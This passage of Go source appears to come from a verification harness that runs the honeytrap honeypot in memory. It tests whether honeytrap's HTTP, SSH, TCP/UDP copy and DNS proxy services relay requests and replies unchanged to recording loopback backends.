	case len(h.Comp) > 0 && h.Comp[0] != 0 && len(h.Comp) == 1:
		return "no-null-compression"
	}
	return "other"
}

func clip(s string, n int) string {
	if len(s) > n {
		return s[:n]
	}
	return s
}
