// Package lab hosts the real honeytrap dispatcher inside a child process
// through its public registries: an in-memory listener ("lab"), capture
// channels ("lab-capture") and stub services.
package lab

import (
	"context"
	"errors"
	"io"
	"net"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/listener"
)

func init() {
	listener.Register("lab", newListener)
}

// Listener is the in-memory listener. AddAddress calls are recorded.
type Listener struct {
	ch      chan net.Conn
	mu      sync.Mutex
	Addrs   []net.Addr
	started chan struct{}
}

var (
	curMu sync.Mutex
	cur   *Listener
)

func newListener(options ...func(listener.Listener) error) (listener.Listener, error) {
	l := &Listener{ch: make(chan net.Conn), started: make(chan struct{})}
	for _, o := range options {
		o(l)
	}
	curMu.Lock()
	cur = l
	curMu.Unlock()
	return l, nil
}

func Current() *Listener {
	curMu.Lock()
	defer curMu.Unlock()
	return cur
}

func (l *Listener) AddAddress(a net.Addr) {
	l.mu.Lock()
	l.Addrs = append(l.Addrs, a)
	l.mu.Unlock()
}

func (l *Listener) Start(ctx context.Context) error {
	close(l.started)
	return nil
}

func (l *Listener) Accept() (net.Conn, error) {
	c := <-l.ch
	return c, nil
}

func (l *Listener) AddrList() []net.Addr {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]net.Addr(nil), l.Addrs...)
}

// SrvConn is the server end of an in-memory TCP connection: a net.Pipe end
// with harness-chosen addresses that observes Read entry/exit, bytes and Close.
type SrvConn struct {
	net.Conn
	laddr, raddr net.Addr

	inRead   int32
	nRead    int64
	nWritten int64
	closed   int32
	reads    int64
}

func (c *SrvConn) LocalAddr() net.Addr  { return c.laddr }
func (c *SrvConn) RemoteAddr() net.Addr { return c.raddr }

func (c *SrvConn) Read(b []byte) (int, error) {
	atomic.AddInt32(&c.inRead, 1)
	n, err := c.Conn.Read(b)
	// order matters for Client.WaitIdle: leave the "in read" state before the
	// byte count becomes visible, so "all bytes consumed and in read" can only
	// be observed for a later Read call.
	atomic.AddInt32(&c.inRead, -1)
	atomic.AddInt64(&c.reads, 1)
	atomic.AddInt64(&c.nRead, int64(n))
	return n, err
}

func (c *SrvConn) Write(b []byte) (int, error) {
	n, err := c.Conn.Write(b)
	atomic.AddInt64(&c.nWritten, int64(n))
	return n, err
}

func (c *SrvConn) Close() error {
	atomic.StoreInt32(&c.closed, 1)
	return c.Conn.Close()
}

func (c *SrvConn) Closed() bool     { return atomic.LoadInt32(&c.closed) == 1 }
func (c *SrvConn) InRead() bool     { return atomic.LoadInt32(&c.inRead) > 0 }
func (c *SrvConn) Written() int64   { return atomic.LoadInt64(&c.nWritten) }
func (c *SrvConn) BytesRead() int64 { return atomic.LoadInt64(&c.nRead) }

// CliConn is the client end (a net.Conn with the mirrored addresses).
type CliConn struct {
	net.Conn
	laddr, raddr net.Addr
	Srv          *SrvConn
}

func (c *CliConn) LocalAddr() net.Addr { return c.laddr }

// SetWindow makes this client a slow receiver: the server's writes wait once n bytes are unread (0: no limit).
func (c *CliConn) SetWindow(n int) {
	if w, ok := c.Conn.(interface{ SetWindow(int) }); ok {
		w.SetWindow(n)
	}
}

// Write records the time of the last client input (used by the memory guard
// to tell growth-without-input from growth under load).
func (c *CliConn) Write(b []byte) (int, error) {
	atomic.StoreInt64(&lastSend, time.Now().UnixNano())
	return c.Conn.Write(b)
}

var lastSend int64

// LastClientSend is the time a harness client last sent anything.
func LastClientSend() time.Time         { return time.Unix(0, atomic.LoadInt64(&lastSend)) }
func (c *CliConn) RemoteAddr() net.Addr { return c.raddr }

// CloseWrite half-closes the client's sending direction.
func (c *CliConn) CloseWrite() error {
	if hc, ok := c.Conn.(interface{ CloseWrite() error }); ok {
		return hc.CloseWrite()
	}
	return nil
}

// DialTCP creates an in-memory connection and hands its server end to the
// dispatcher. local is the honeypot-side address, remote the client's.
func (l *Listener) DialTCP(local, remote *net.TCPAddr) *CliConn {
	cs, ss := bufPipe()
	srv := &SrvConn{Conn: ss, laddr: local, raddr: remote}
	l.ch <- srv
	return &CliConn{Conn: cs, laddr: remote, raddr: local, Srv: srv}
}

// UDPExchange is one datagram handed to the dispatcher and the replies it elicited.
type UDPExchange struct {
	mu      sync.Mutex
	Replies [][]byte
	To      []*net.UDPAddr
	Conn    *listener.DummyUDPConn
}

func (x *UDPExchange) Snapshot() [][]byte {
	x.mu.Lock()
	defer x.mu.Unlock()
	out := make([][]byte, len(x.Replies))
	for i, r := range x.Replies {
		out[i] = append([]byte(nil), r...)
	}
	return out
}

func (x *UDPExchange) Count() int {
	x.mu.Lock()
	defer x.mu.Unlock()
	return len(x.Replies)
}

// SendUDP delivers one datagram exactly as the socket and agent listeners do.
func (l *Listener) SendUDP(local, remote *net.UDPAddr, payload []byte) *UDPExchange {
	x := &UDPExchange{}
	x.Conn = &listener.DummyUDPConn{
		Buffer: append([]byte(nil), payload...),
		Laddr:  local,
		Raddr:  remote,
		Fn: func(b []byte, addr *net.UDPAddr) (int, error) {
			x.mu.Lock()
			x.Replies = append(x.Replies, append([]byte(nil), b...))
			x.To = append(x.To, addr)
			x.mu.Unlock()
			return len(b), nil
		},
	}
	atomic.StoreInt64(&lastSend, time.Now().UnixNano())
	l.ch <- x.Conn
	return x
}

// Client drives a CliConn with a background reader so that a synchronous
// pipe can never deadlock on simultaneous writes.
type Client struct {
	C    *CliConn
	mu   sync.Mutex
	cond *sync.Cond
	buf  []byte
	got  int64
	eof  bool
	rerr error
	sent int64
}

func NewClient(c *CliConn) *Client {
	cl := &Client{C: c}
	cl.cond = sync.NewCond(&cl.mu)
	go cl.reader()
	return cl
}

func (cl *Client) reader() {
	b := make([]byte, 65536)
	for {
		n, err := cl.C.Conn.Read(b)
		cl.mu.Lock()
		if n > 0 {
			cl.buf = append(cl.buf, b[:n]...)
			cl.got += int64(n)
		}
		if err != nil {
			cl.eof = true
			cl.rerr = err
		}
		cl.cond.Broadcast()
		cl.mu.Unlock()
		if err != nil {
			return
		}
	}
}

var ErrWriteTimeout = errors.New("lab: client write not consumed by server")

// Send writes b as one segment. It fails if the server does not consume it
// within max (a server that never reads is not an error of the harness).
func (cl *Client) Send(b []byte, max time.Duration) error {
	if len(b) == 0 {
		return nil
	}
	n, err := cl.C.Write(b)
	sent := atomic.AddInt64(&cl.sent, int64(n))
	if err != nil {
		return err
	}
	// wait until the server has consumed the segment (what a synchronous
	// pipe would do), so the next write cannot coalesce with this one
	deadline := time.Now().Add(max)
	for spins := 0; cl.C.Srv.BytesRead() < sent; spins++ {
		if cl.C.Srv.Closed() {
			return io.ErrClosedPipe
		}
		if time.Now().After(deadline) {
			return ErrWriteTimeout
		}
		if spins < 50 {
			runtime.Gosched()
		} else {
			time.Sleep(50 * time.Microsecond)
		}
	}
	return nil
}

// SendCuts writes b split at the given cut offsets, one pipe write per piece.
func (cl *Client) SendCuts(b []byte, cuts []int, max time.Duration) error {
	prev := 0
	for _, c := range cuts {
		if c <= prev || c >= len(b) {
			continue
		}
		if err := cl.Send(b[prev:c], max); err != nil {
			return err
		}
		prev = c
	}
	return cl.Send(b[prev:], max)
}

// Received returns a copy of everything read so far.
func (cl *Client) Received() []byte {
	cl.mu.Lock()
	defer cl.mu.Unlock()
	return append([]byte(nil), cl.buf...)
}

func (cl *Client) EOF() bool {
	cl.mu.Lock()
	defer cl.mu.Unlock()
	return cl.eof
}

// WaitIdle waits until the server has consumed everything sent, delivered
// everything it wrote, and is blocked reading for more input (or has closed).
// It is a logical quiescence signal, not a timing guess. Returns
// "idle", "closed" or "timeout".
func (cl *Client) WaitIdle(max time.Duration) string {
	deadline := time.Now().Add(max)
	stable := 0
	for {
		srv := cl.C.Srv
		cl.mu.Lock()
		got, eof := cl.got, cl.eof
		cl.mu.Unlock()
		if eof || srv.Closed() {
			if got >= srv.Written() {
				return "closed"
			}
		} else if srv.BytesRead() == atomic.LoadInt64(&cl.sent) && srv.InRead() && got >= srv.Written() {
			stable++
			if stable >= 2 {
				return "idle"
			}
		} else {
			stable = 0
		}
		if time.Now().After(deadline) {
			return "timeout"
		}
		if stable > 0 {
			time.Sleep(50 * time.Microsecond)
		} else {
			time.Sleep(200 * time.Microsecond)
		}
	}
}

// WaitFor waits until pred(received) holds, the connection ends, or max elapses.
func (cl *Client) WaitFor(pred func([]byte) bool, max time.Duration) bool {
	deadline := time.Now().Add(max)
	timer := time.AfterFunc(max, func() { cl.mu.Lock(); cl.cond.Broadcast(); cl.mu.Unlock() })
	defer timer.Stop()
	cl.mu.Lock()
	defer cl.mu.Unlock()
	for {
		if pred(cl.buf) {
			return true
		}
		if cl.eof || time.Now().After(deadline) {
			return pred(cl.buf)
		}
		cl.cond.Wait()
	}
}

func (cl *Client) Close() { cl.C.Conn.Close() }

var _ io.Reader = (*CliConn)(nil)
