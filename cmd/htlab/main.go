// htlab is the single executable of the runtime-monitoring harness:
// `htlab drive` is the monitor/oracle side, `htlab child` hosts honeytrap.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"strconv"

	"verif/htlab/internal/core"
	_ "verif/htlab/internal/props"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Println("usage: htlab drive|child|replay|list ...")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "list":
		for _, id := range core.IDs() {
			fmt.Println(id)
		}
	case "drive":
		fs := flag.NewFlagSet("drive", flag.ExitOnError)
		prop := fs.String("prop", "", "property id")
		tier := fs.String("tier", "quick", "quick|thorough")
		seed := fs.Int64("seed", 1, "seed")
		fs.Parse(os.Args[2:])
		if s := os.Getenv("VERIF_SEED"); s != "" && !isFlagSet(fs, "seed") {
			if n, err := strconv.ParseInt(s, 10, 64); err == nil {
				*seed = n
			}
		}
		os.Exit(core.Drive(*prop, *tier, *seed))
	case "replay":
		os.Exit(core.Replay(os.Args[2]))
	case "child":
		fs := flag.NewFlagSet("child", flag.ExitOnError)
		bp := fs.String("batch", "", "batch file")
		obs := fs.String("obs", "", "observation log")
		work := fs.String("work", "", "scratch dir")
		fs.Parse(os.Args[2:])
		raw, err := os.ReadFile(*bp)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		var b core.Batch
		if err := json.Unmarshal(raw, &b); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		o, err := core.OpenObs(*obs)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		os.Setenv("HTLAB_WORK", *work)
		p := core.Get(b.Prop)
		if p == nil {
			fmt.Fprintln(os.Stderr, "unknown property", b.Prop)
			os.Exit(2)
		}
		p.Child(b, o)
		o.Close()
		os.Exit(0)
	default:
		fmt.Println("unknown subcommand", os.Args[1])
		os.Exit(2)
	}
}

func isFlagSet(fs *flag.FlagSet, name string) bool {
	set := false
	fs.Visit(func(f *flag.Flag) {
		if f.Name == name {
			set = true
		}
	})
	return set
}
