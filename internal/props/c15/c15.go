// Package c15: proxy services relay requests and replies unchanged to the
// configured backend. The real http-proxy, ssh-proxy, copy and dns-proxy
// services run behind the dispatcher with a forward director; harness
// backends on loopback record what they receive and answer from a script;
// a decoy listener must stay untouched.
package c15

import (
	"bufio"
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/crypto/ssh"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C15" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one client exchange through a proxying service configured with a forward director: http-proxy (sequences of 1..3 generated requests: methods, targets, 0..10 headers incl. repeated names, bodies 0..64 KiB with content-length or chunked; lock-step and pipelined, every single cut point for short streams, sampled cuts beyond; backend replies with bodies 0..64 KiB written in seeded chunks), ssh-proxy (password accepted/rejected by the backend, env/pty-req/exec/shell requests, channel data 0..64 KiB both ways), copy (arbitrary TCP streams and datagrams), dns-proxy (queries and answers); 1..3 concurrent client connections. Oracle: backend-received == client-sent, client-received == backend-sent, one event per relayed request attributed to the client, no connection to the decoy listener. Non-trivial = the backend received >=1 byte; distinct by scenario parameters. Also: a first write that carries complete requests plus the first bytes of the next one, replies awaited before the rest is sent (overlap); copy-tcp clients that half-close before the backend answers; and for the first scenarios of every part a system-call trace of connect(): every connect to an internet address must name a backend. A copy service with one shared forward director listens on tcp and udp (backends with the same port number); copy-both scenarios alternate datagrams and connections through it, udp first in some child processes and tcp first in others. A third of the ssh scenarios make 2..12 password attempts on one proxied connection (the backend turns all but possibly the last one down): every attempt must reach the backend, in order, and give one event. http-drop: the backend reads the last request of a lock-step sequence and closes without answering; every request the backend received must have its event. The dns backend's answers are the transformed query followed by 0..65000 further bytes (totals of exactly 512, 513, 4096, 4097 bytes among them; the length follows from the query id). dns queries vary the question type and include a bare header, a question-less message with an OPT record, two questions and opcode STATUS."
}
func (prop) Assumptions() []string {
	return []string{"differences HTTP intermediaries may make are not violations: order between different header names, chunked <-> content-length re-framing with identical body, header-name case", "a header the client did not send that appears at the backend is reported under its own signature"}
}

// ---- backends ---------------------------------------------------------------------------------

type httpReq struct {
	Method string              `json:"method"`
	Target string              `json:"target"`
	Header map[string][]string `json:"header"`
	Body   []byte              `json:"body"`
}

type httpResp struct {
	Status int
	Header [][2]string
	Body   []byte
	Chunks []int
	// Drop: the backend has read the request and goes away without answering (it crashed on it)
	Drop bool
}

type httpBackend struct {
	l     net.Listener
	mu    sync.Mutex
	got   map[string][]httpReq // by X-Conn tag
	resp  func(tag string, i int) httpResp
	conns int
}

func (b *httpBackend) serve() {
	for {
		c, err := b.l.Accept()
		if err != nil {
			return
		}
		b.mu.Lock()
		b.conns++
		b.mu.Unlock()
		go func(c net.Conn) {
			defer c.Close()
			br := bufio.NewReader(c)
			n := map[string]int{}
			for {
				c.SetReadDeadline(time.Now().Add(10 * time.Second))
				req, err := http.ReadRequest(br)
				if err != nil {
					return
				}
				body, _ := io.ReadAll(req.Body)
				tag := req.Header.Get("X-Conn")
				r := httpReq{Method: req.Method, Target: req.RequestURI, Header: map[string][]string{}, Body: body}
				for k, v := range req.Header {
					r.Header[strings.ToLower(k)] = v
				}
				if req.Host != "" {
					r.Header["host"] = []string{req.Host}
				}
				if len(req.TransferEncoding) > 0 {
					r.Header["transfer-encoding"] = req.TransferEncoding
				}
				b.mu.Lock()
				b.got[tag] = append(b.got[tag], r)
				b.mu.Unlock()
				rs := b.resp(tag, n[tag])
				n[tag]++
				if rs.Drop {
					return
				}
				var hb bytes.Buffer
				fmt.Fprintf(&hb, "HTTP/1.1 %d %s\r\n", rs.Status, http.StatusText(rs.Status))
				for _, h := range rs.Header {
					fmt.Fprintf(&hb, "%s: %s\r\n", h[0], h[1])
				}
				fmt.Fprintf(&hb, "Content-Length: %d\r\n\r\n", len(rs.Body))
				c.Write(hb.Bytes())
				off := 0
				for _, ch := range rs.Chunks {
					if off+ch > len(rs.Body) {
						ch = len(rs.Body) - off
					}
					c.Write(rs.Body[off : off+ch])
					off += ch
				}
				c.Write(rs.Body[off:])
			}
		}(c)
	}
}

// tcpBackend records what it receives per connection and answers with a transformation of it.
type tcpBackend struct {
	l    net.Listener
	mu   sync.Mutex
	got  [][]byte
	done []bool
}

func (b *tcpBackend) serve() {
	for {
		c, err := b.l.Accept()
		if err != nil {
			return
		}
		b.mu.Lock()
		idx := len(b.got)
		b.got = append(b.got, nil)
		b.done = append(b.done, false)
		b.mu.Unlock()
		go func(c net.Conn) {
			defer c.Close()
			buf := make([]byte, 32768)
			for {
				c.SetReadDeadline(time.Now().Add(10 * time.Second))
				n, err := c.Read(buf)
				if n > 0 {
					b.mu.Lock()
					b.got[idx] = append(b.got[idx], buf[:n]...)
					late := bytes.HasPrefix(b.got[idx], []byte("late-"))
					b.mu.Unlock()
					if late {
						// a backend that answers only a while after it has the request
						time.Sleep(60 * time.Millisecond)
					}
					c.Write(xform(buf[:n]))
				}
				if err != nil {
					b.mu.Lock()
					b.done[idx] = true
					b.mu.Unlock()
					return
				}
			}
		}(c)
	}
}

// xform is what the backends answer: every byte xor 0x5a (so a proxy that echoes locally is told apart).
func xform(b []byte) []byte {
	o := make([]byte, len(b))
	for i, x := range b {
		o[i] = x ^ 0x5a
	}
	return o
}

type udpBackend struct {
	c   *net.UDPConn
	mu  sync.Mutex
	got [][]byte
	// long: answers are the transformed request followed by 0..65000 more bytes (a name server answering a
	// client that advertises a large EDNS0 buffer); the length is a function of the request alone
	long bool
}

// answerTo is what a backend sends back for a datagram: the transformed request and, for a backend with long
// answers, a run of further bytes whose number follows from the request's first two bytes (the query id):
// totals of exactly 512, 513, 4096 and 4097 bytes and lengths up to the largest datagram among them.
func answerTo(req []byte, long bool) []byte {
	o := xform(req)
	if !long || len(req) < 2 {
		return o
	}
	more := 0
	switch v := (int(req[0])<<8 | int(req[1])) % 12; v {
	case 1:
		more = 512 - len(req)
	case 2:
		more = 513 - len(req)
	case 3:
		more = 4096 - len(req)
	case 4:
		more = 4097 - len(req)
	case 5:
		more = 1400
	case 6:
		more = 9000
	case 7:
		more = 30000
	case 8:
		more = 65000
	}
	for i := 0; i < more; i++ {
		o = append(o, byte(i*7+int(req[1])))
	}
	return o
}

func (b *udpBackend) serve() {
	buf := make([]byte, 65536)
	for {
		n, addr, err := b.c.ReadFromUDP(buf)
		if err != nil {
			return
		}
		b.mu.Lock()
		b.got = append(b.got, append([]byte(nil), buf[:n]...))
		b.mu.Unlock()
		b.c.WriteToUDP(answerTo(buf[:n], b.long), addr)
	}
}

type sshSeen struct {
	User, Pass string
	Accepted   bool
	Requests   []string // type:hex(payload)
	Data       []byte
}

type sshBackend struct {
	l      net.Listener
	mu     sync.Mutex
	seen   []*sshSeen
	accept func(user, pass string) bool
	signer ssh.Signer
}

func (b *sshBackend) serve() {
	for {
		c, err := b.l.Accept()
		if err != nil {
			return
		}
		go func(c net.Conn) {
			defer c.Close()
			var cur *sshSeen
			cfg := &ssh.ServerConfig{PasswordCallback: func(cm ssh.ConnMetadata, pw []byte) (*ssh.Permissions, error) {
				s := &sshSeen{User: cm.User(), Pass: string(pw), Accepted: b.accept(cm.User(), string(pw))}
				b.mu.Lock()
				b.seen = append(b.seen, s)
				b.mu.Unlock()
				cur = s
				if s.Accepted {
					return nil, nil
				}
				return nil, fmt.Errorf("denied")
			}}
			cfg.AddHostKey(b.signer)
			sc, chans, reqs, err := ssh.NewServerConn(c, cfg)
			if err != nil {
				return
			}
			defer sc.Close()
			go ssh.DiscardRequests(reqs)
			for nc := range chans {
				ch, rq, err := nc.Accept()
				if err != nil {
					continue
				}
				go func() {
					for r := range rq {
						b.mu.Lock()
						cur.Requests = append(cur.Requests, r.Type+":"+hex.EncodeToString(r.Payload))
						b.mu.Unlock()
						if r.WantReply {
							r.Reply(true, nil)
						}
					}
				}()
				go func() {
					buf := make([]byte, 32768)
					for {
						n, err := ch.Read(buf)
						if n > 0 {
							b.mu.Lock()
							cur.Data = append(cur.Data, buf[:n]...)
							b.mu.Unlock()
							ch.Write(xform(buf[:n]))
						}
						if err != nil {
							ch.Close()
							return
						}
					}
				}()
			}
		}(c)
	}
}

// ---- scenarios ----------------------------------------------------------------------------------

type scenario struct {
	Kind string `json:"kind"` // http | copy-tcp | copy-udp | dns | ssh
	Sub  int    `json:"sub"`
	Mode string `json:"mode,omitempty"` // lockstep | pipelined | overlap
	Cut  int    `json:"cut,omitempty"`  // -1 none
	// overlap: the first write carries requests 0..After complete plus the first Cut bytes of the next one; the
	// client reads the replies to the complete requests before it sends the rest
	After   int `json:"after,omitempty"`
	Clients int `json:"clients"`
}

type hreq struct {
	Method  string
	Target  string
	Headers [][2]string
	Body    []byte
	Chunked bool
}

func httpSeq(seed int64, sub int) []hreq {
	r := core.NewRng(seed, "C15/http", sub)
	var out []hreq
	for i := r.Range(1, 3); i > 0; i-- {
		q := hreq{Method: r.PickS([]string{"GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS"}), Target: r.PickS([]string{"/", "/a/b", "/x?y=1&z=2", "/p%20q", "/deep/er/path.php"}) + r.Alnum(3)}
		q.Headers = append(q.Headers, [2]string{"Host", "backend" + r.Alnum(3) + ".test"})
		used := map[string]bool{}
		for j := r.Range(0, 10); j > 0; j-- {
			name := r.PickS([]string{"X-A", "X-B", "Accept", "Cookie", "X-Repeated", "X-Repeated", "Referer", "Authorization", "User-Agent", "Accept-Encoding", "X-Forwarded-For"})
			if used[name] && name != "X-Repeated" && name != "Accept" && name != "X-A" {
				continue // only list-valued headers are repeated
			}
			used[name] = true
			q.Headers = append(q.Headers, [2]string{name, r.Alnum(r.Range(1, 30))})
		}
		q.Headers = append(q.Headers, [2]string{"X-Seq", fmt.Sprint(len(out))})
		if q.Method == "POST" || q.Method == "PUT" {
			q.Body = []byte(r.Alnum(r.PickI([]int{0, 1, 100, 5000, 65536})))
			q.Chunked = r.Chance(1, 3)
		}
		out = append(out, q)
	}
	return out
}

func httpRespFor(seed int64, sub int, i int, head bool) httpResp {
	r := core.NewRng(seed, "C15/resp", sub*10+i)
	rs := httpResp{Status: r.PickI([]int{200, 200, 201, 404, 500})}
	for j := r.Range(0, 5); j > 0; j-- {
		rs.Header = append(rs.Header, [2]string{r.PickS([]string{"X-Srv", "Set-Cookie", "Set-Cookie", "Server", "X-Dup", "X-Dup"}), r.Alnum(r.Range(1, 20))})
	}
	if !head {
		rs.Body = []byte(r.Alnum(r.PickI([]int{0, 1, 10, 1000, 20000, 65536})))
	}
	for j := r.Range(0, 5); j > 0; j-- {
		rs.Chunks = append(rs.Chunks, r.Range(1, 9000))
	}
	return rs
}

func render(q hreq, tag string) []byte {
	hs := append([][2]string{}, q.Headers...)
	hs = append(hs, [2]string{"X-Conn", tag})
	return gen.HTTPRequest(q.Method, q.Target, hs, q.Body, q.Chunked)
}

func scenarios(tier string, seed int64) []scenario {
	var out []scenario
	nh, nc, ns := 200, 150, 60
	if tier == "thorough" {
		nh, nc, ns = 1500, 1500, 300
	}
	for i := 0; i < nh; i++ {
		r := core.NewRng(seed, "C15/scn", i)
		out = append(out, scenario{Kind: "http", Sub: i, Mode: "lockstep", Cut: -1, Clients: r.PickI([]int{1, 1, 2, 3})})
		out = append(out, scenario{Kind: "http", Sub: i, Mode: "pipelined", Cut: -1, Clients: 1})
		if i%4 == 0 {
			// the backend reads the last request of the sequence and closes without answering
			out = append(out, scenario{Kind: "http-drop", Sub: i, Mode: "drop-last", Cut: -1, Clients: 1})
		}
		// single cut points: all for short streams, sampled beyond
		total := 0
		for _, q := range httpSeq(seed, i) {
			total += len(render(q, "c0"))
		}
		cuts := 6
		if total <= 400 {
			cuts = total - 1
			if tier != "thorough" && cuts > 40 {
				cuts = 40
			}
		}
		for j := 0; j < cuts; j++ {
			c := 1 + (j*(total-1))/maxi(cuts, 1)
			out = append(out, scenario{Kind: "http", Sub: i, Mode: r.PickS([]string{"lockstep", "pipelined"}), Cut: c, Clients: 1})
		}
		if sq := httpSeq(seed, i); len(sq) > 1 {
			for a := 0; a+1 < len(sq); a++ {
				l := len(render(sq[a+1], "c0"))
				for _, c := range []int{1, 5, 14, l / 2, l - 1} {
					if c >= 1 && c < l {
						out = append(out, scenario{Kind: "http", Sub: i, Mode: "overlap", Cut: c, After: a, Clients: 1})
					}
				}
			}
		}
	}
	for i := 0; i < nc; i++ {
		r := core.NewRng(seed, "C15/scn2", i)
		out = append(out, scenario{Kind: "copy-tcp", Sub: i, Clients: r.PickI([]int{1, 1, 2, 3}), Cut: -1})
		if i%3 == 0 {
			out = append(out, scenario{Kind: "copy-tcp", Sub: i, Mode: "half-close", Clients: r.PickI([]int{1, 2}), Cut: -1})
		}
		out = append(out, scenario{Kind: "copy-udp", Sub: i, Clients: 1, Cut: -1})
		if i%10 == 0 {
			out = append(out, scenario{Kind: "copy-both", Sub: i, Clients: 1, Cut: (i / 10) % 2})
		}
		out = append(out, scenario{Kind: "dns", Sub: i, Clients: 1, Cut: -1})
	}
	for i := 0; i < ns; i++ {
		out = append(out, scenario{Kind: "ssh", Sub: i, Clients: 1, Cut: -1})
	}
	return out
}

func maxi(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// ---- child ----------------------------------------------------------------------------------------

type env struct {
	srv   *lab.Server
	hb    *httpBackend
	tb    *tcpBackend
	ub    *udpBackend
	db    *udpBackend
	sb    *sshBackend
	decoy *tcpBackend
	seed  int64
	// one forward director shared by a copy service that listens on tcp and udp: its two backends have the same
	// port number (a tcp listener and a udp socket)
	tb2 *tcpBackend
	ub2 *udpBackend
	// port/backend overrides used by the copy-both scenarios
	tcpPort, udpPort int
	tbCur            *tcpBackend
	ubCur            *udpBackend
}

type obs struct {
	Problems []string `json:"problems"` // rule|description
	Backend  int      `json:"backend_bytes"`
	Events   int      `json:"events"`
	Detail   string   `json:"detail,omitempty"`
}

func (o *obs) bad(rule, f string, a ...interface{}) {
	o.Problems = append(o.Problems, rule+"||"+fmt.Sprintf(f, a...))
}

func listenTCP() net.Listener {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	return l
}

func setup(seed int64) (*env, error) {
	e := &env{seed: seed}
	e.hb = &httpBackend{l: listenTCP(), got: map[string][]httpReq{}}
	e.tb = &tcpBackend{l: listenTCP()}
	e.decoy = &tcpBackend{l: listenTCP()}
	uc, _ := net.ListenUDP("udp", &net.UDPAddr{IP: net.ParseIP("127.0.0.1")})
	e.ub = &udpBackend{c: uc}
	dc, _ := net.ListenUDP("udp", &net.UDPAddr{IP: net.ParseIP("127.0.0.1")})
	e.db = &udpBackend{c: dc, long: true}
	_, priv, _ := ed25519.GenerateKey(rand.Reader)
	signer, _ := ssh.NewSignerFromKey(priv)
	e.sb = &sshBackend{l: listenTCP(), signer: signer, accept: func(u, p string) bool { return strings.HasPrefix(p, "ok-") }}
	for try := 0; try < 50 && e.ub2 == nil; try++ {
		l := listenTCP()
		uc2, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.ParseIP("127.0.0.1"), Port: l.Addr().(*net.TCPAddr).Port})
		if err != nil {
			l.Close()
			continue
		}
		e.tb2, e.ub2 = &tcpBackend{l: l}, &udpBackend{c: uc2}
		go e.tb2.serve()
		go e.ub2.serve()
	}
	go e.hb.serve()
	go e.tb.serve()
	go e.decoy.serve()
	go e.ub.serve()
	go e.db.serve()
	go e.sb.serve()
	cfg := "[listener]\ntype=\"lab\"\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n[[filter]]\nchannel=[\"cap0\"]\n"
	dir := func(name string, a net.Addr) string {
		return fmt.Sprintf("[director.%s]\ntype=\"forward\"\nhost=%q\n", name, a.String())
	}
	cfg += dir("dhttp", e.hb.l.Addr()) + dir("dtcp", e.tb.l.Addr()) + dir("dudp", e.ub.c.LocalAddr()) + dir("ddns", e.db.c.LocalAddr()) + dir("dssh", e.sb.l.Addr())
	svc := func(name, typ, d, port string) string {
		return fmt.Sprintf("[service.%s]\ntype=%q\ndirector=%q\n[[port]]\nport=%q\nservices=[%q]\n", name, typ, d, port, name)
	}
	if e.ub2 != nil {
		cfg += dir("dboth", e.tb2.l.Addr())
		cfg += "[service.cpb]\ntype=\"copy\"\ndirector=\"dboth\"\n[[port]]\nports=[\"tcp/9100\",\"udp/9100\"]\nservices=[\"cpb\"]\n"
	}
	cfg += svc("hp", "http-proxy", "dhttp", "tcp/8080") + svc("cp", "copy", "dtcp", "tcp/9000") + svc("cpu", "copy", "dudp", "udp/9001") + svc("dp", "dns-proxy", "ddns", "udp/53") + svc("sp", "ssh-proxy", "dssh", "tcp/2222")
	srv, err := lab.Start(cfg)
	if err != nil {
		return nil, err
	}
	e.srv = srv
	return e, nil
}

var connSeq int

func nextAddr() (string, int) {
	connSeq++
	return fmt.Sprintf("203.0.%d.%d", 113+(connSeq>>16)&3, 1+(connSeq>>8)&127), 10000 + connSeq&255 + ((connSeq>>8)&63)*256
}

func (e *env) runHTTP(sc scenario, ob *obs) {
	seq := httpSeq(e.seed, sc.Sub)
	e.hb.mu.Lock()
	e.hb.got = map[string][]httpReq{}
	e.hb.resp = func(tag string, i int) httpResp {
		head := i < len(seq) && seq[i].Method == "HEAD"
		return httpRespFor(e.seed, sc.Sub, i, head)
	}
	e.hb.mu.Unlock()
	ev0 := lab.Events.Len()
	var wg sync.WaitGroup
	var omu sync.Mutex
	addrs := map[string]string{}
	for ci := 0; ci < sc.Clients; ci++ {
		wg.Add(1)
		ip, port := nextAddr()
		tag := fmt.Sprintf("c%d-%d", ci, connSeq)
		addrs[tag] = fmt.Sprintf("%s:%d", ip, port)
		go func(ci int, tag, ip string, port int) {
			defer wg.Done()
			cc := e.srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 8080), lab.TCPAddr(ip, port))
			cl := lab.NewClient(cc)
			defer cl.Close()
			var stream []byte
			var bounds []int
			for _, q := range seq {
				stream = append(stream, render(q, tag)...)
				bounds = append(bounds, len(stream))
			}
			pos := 0
			parseNext := func(i int) (*http.Response, []byte, bool) {
				var resp *http.Response
				var body []byte
				ok := cl.WaitFor(func(b []byte) bool {
					r, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(b[pos:])), &http.Request{Method: seq[i].Method})
					if err != nil {
						return false
					}
					bd, err := io.ReadAll(r.Body)
					if err != nil {
						return false
					}
					resp, body = r, bd
					return true
				}, 4*time.Second)
				return resp, body, ok
			}
			consumed := func(i int, resp *http.Response, body []byte) {
